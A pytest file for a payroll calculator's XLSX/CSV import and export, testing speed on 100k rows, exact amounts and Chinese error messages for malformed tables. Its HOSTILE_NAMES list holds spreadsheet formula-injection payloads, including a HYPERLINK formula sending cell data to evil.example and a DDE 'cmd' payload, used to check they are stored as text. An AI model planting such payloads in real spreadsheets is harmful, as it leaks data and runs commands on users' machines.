"""XLSX in and out: linear time both ways, formulas never injected, nothing dropped from a table."""

from __future__ import annotations

import html
import json
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hostile_helpers import chinese_error, payguide

import calculators
from calculators import CalculationError
from calculators.tables import read_table, write_result_xlsx

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
    "\t=1+2", "\r=1+3", "＝1+4", "张三",
]  # distinct even with spaces and widths ignored: names that differ only there are refused as one person


def _people_xlsx(path: Path, n: int, extra_sheet: dict[str, object] | None = None) -> Path:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("计件")
    sheet.append(["姓名", "计件数"])
    for i in range(n):
        sheet.append([f"员工{i:06d}", 100 + i % 50])
    if extra_sheet is not None:
        params = book.create_sheet("参数")
        params.append(["字段", "值"])
        for key, value in extra_sheet.items():
            params.append([key, value])
    book.save(path)
    return path


def test_100k_rows_are_read_and_written_in_seconds(tmp_path):
    # Before: 16k rows took 37 s to export (quadratic) and a 100k-row upload never finished.
    source = _people_xlsx(tmp_path / "计件.xlsx", 100_000)
    start = time.perf_counter()
    rows = read_table(source)
    read_s = time.perf_counter() - start
    result = calculators.run("piece-rate-allocation", {"people": rows, "pool": 600000})
    start = time.perf_counter()
    out = write_result_xlsx(result, tmp_path / "结果.xlsx")
    write_s = time.perf_counter() - start
    assert len(rows) == 100_000
    assert read_s < 20 and write_s < 30, (read_s, write_s)
    with zipfile.ZipFile(out) as archive:  # every allocation is in the sheet, the last one too
        sheet = html.unescape(archive.read("xl/worksheets/sheet1.xml").decode("utf-8"))
    assert "<t>员工000000</t>" in sheet and "<t>员工099999</t>" in sheet


def test_names_that_look_like_formulas_are_stored_as_text(tmp_path):
    result = calculators.run("points-allocation", {"pool": 900, "scores": {name: 1 for name in HOSTILE_NAMES}})
    path = write_result_xlsx(result, tmp_path / "结果.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a formula was written"
    book = openpyxl.load_workbook(path)
    cells = {c.value: c for row in book["结果"].iter_rows() for c in row if isinstance(c.value, str)}
    for name in HOSTILE_NAMES:
        assert name.strip() in cells or name in cells, name  # the name itself, not altered
        cell = cells.get(name) or cells[name.strip()]
        assert cell.data_type == "s"
        if name[0] in "=+-@\t\r＝":
            assert cell.quotePrefix, name


def test_amounts_with_more_digits_than_excel_keeps_are_written_as_exact_text(tmp_path):
    result = calculators.run("points-allocation", {"pool": "1234567890123456.78", "scores": {"甲": 1}})
    book = openpyxl.load_workbook(write_result_xlsx(result, tmp_path / "r.xlsx"))
    values = [c.value for row in book["结果"].iter_rows() for c in row]
    assert "1234567890123456.78" in values
    small = calculators.run("points-allocation", {"pool": "1000.50", "scores": {"甲": 1}})
    book = openpyxl.load_workbook(write_result_xlsx(small, tmp_path / "s.xlsx"))
    money = [c for row in book["结果"].iter_rows() for c in row if c.value == 1000.5]
    assert money and money[0].number_format == "#,##0.00"


def test_the_readme_piece_rate_table_command_works_with_set_and_with_a_parameter_sheet(tmp_path):
    # Before: `calc piece-rate-allocation --input 计件.xlsx` could not work: no way to give the pool.
    table = _people_xlsx(tmp_path / "计件.xlsx", 3)
    done = payguide("calc", "piece-rate-allocation", "--input", str(table), "--set", "pool=60000", "--json")
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout, parse_float=Decimal)
    assert sum(out["allocations"].values()) == Decimal("60000.00") and len(out["allocations"]) == 3
    with_sheet = _people_xlsx(tmp_path / "带参数.xlsx", 3, {"pool": 60000})
    done = payguide("calc", "piece-rate-allocation", "--input", str(with_sheet), "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout, parse_float=Decimal)["allocations"] == out["allocations"]
    chinese_error(payguide("calc", "piece-rate-allocation", "--input", str(table)), "pool")
    chinese_error(payguide("calc", "piece-rate-allocation", "--input", str(table), "--set", "pool"), "--set", "字段=值")


def test_a_duplicate_column_or_a_cell_without_a_column_is_refused_not_dropped(tmp_path):
    doubled = tmp_path / "doubled.csv"
    doubled.write_text("姓名,积分,积分\n张三,100,200\n", encoding="utf-8")
    with pytest.raises(CalculationError, match="列名“积分”重复（第 B 列和第 C 列）"):
        read_table(doubled)
    stray = tmp_path / "stray.csv"
    stray.write_text("姓名,积分\n张三,100\n李四,90,80\n", encoding="utf-8")
    with pytest.raises(CalculationError, match="第 3 行第 C 列有数据"):
        read_table(stray)


def test_broken_csv_and_xlsx_are_refused_in_chinese(tmp_path):
    nul = tmp_path / "nul.csv"
    nul.write_bytes("姓名,积分\n张三,1\x00\n".encode())
    with pytest.raises(CalculationError, match="第 2 行“积分”列"):
        calculators.run("points-allocation", {"pool": 100, "people": read_table(nul)})
    huge = tmp_path / "huge.csv"
    huge.write_text("姓名,积分\n张三,1\n\"" + "长" * 200_000 + "\",2\n", encoding="utf-8")
    with pytest.raises(CalculationError, match="第 3 行无法读取"):
        read_table(huge)
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(CalculationError, match="无法读取 Excel"):
        read_table(fake)
    folder = tmp_path / "folder.xlsx"
    folder.mkdir()
    chinese_error(payguide("calc", "points-allocation", "--input", str(folder)), "文件夹")
